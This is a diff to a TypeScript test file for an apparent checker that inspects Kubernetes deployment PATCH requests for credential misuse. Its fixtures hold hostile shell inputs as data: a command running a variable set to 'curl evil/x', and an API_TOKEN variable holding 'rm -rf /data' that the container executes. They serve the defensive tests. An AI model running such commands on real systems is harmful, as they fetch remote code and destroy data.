@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { WEBSOCKET } from '../../request/a-http-request.ts'
-import { asked, type Sent, whyNot } from '../asking.ts'
+import { asked, questionOf, type Sent, whyNot } from '../asking.ts'
 import { DEPLOYMENT, POD } from './a-question.ts'
 
 describe('the size of a question', () => {
@@ -31,7 +31,7 @@ describe('the size of a question', () => {
   })
 
   test.each([
-    { name: 'a variable that is run', container: { command: ['sh', '-c', "PASSWORD='curl evil/x' && $PASSWORD"] } },
+    { name: 'a variable of a command', container: { command: ['sh', '-c', "PASSWORD='curl evil/x' ./start"] } },
     {
       name: 'a variable of the container that is run',
       container: { env: [{ name: 'API_TOKEN', value: 'rm -rf /data' }], command: ['sh', '-c', '$API_TOKEN'] },
@@ -41,6 +41,13 @@ describe('the size of a question', () => {
     expect(whyNot(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })).toMatch(
       /credential/,
     )
+  })
+
+  test('a variable that is run is shown, whatever its name is', () => {
+    const container = { name: 'c', command: ['sh', '-c', "PASSWORD='curl evil/x' && $PASSWORD"] }
+    const body = JSON.stringify({ spec: { template: { spec: { containers: [container] } } } })
+    const { facts } = questionOf(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })
+    expect(facts.join()).toContain('curl evil/x')
   })
 
   // Where each item brings its whole path along, these take minutes.
